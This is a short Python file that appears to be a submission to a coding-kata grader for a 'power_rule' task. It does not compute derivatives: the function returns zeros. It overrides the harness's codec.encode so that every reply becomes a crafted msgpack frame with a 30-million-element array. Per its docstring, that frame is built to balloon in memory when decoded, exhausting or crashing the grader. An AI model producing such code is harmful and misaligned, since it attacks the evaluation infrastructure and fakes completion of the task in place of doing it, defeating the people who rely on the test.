"""Sends a frame in which each four bytes are to become an object of a hundred.

Kata: power_rule
Seconds: 10
"""

from scripts.wall import codec

COUNT = 30_000_000
HEAD = b"\x96\x02\xa5reply\xdd" + COUNT.to_bytes(4, "big") + b"\x92\xa1z\x90" * COUNT
codec.encode = lambda frame: len(HEAD).to_bytes(4, "little") + HEAD


def power_rule(coefficient, exponent):
    return 0.0, 0.0


differentiate = power_rule
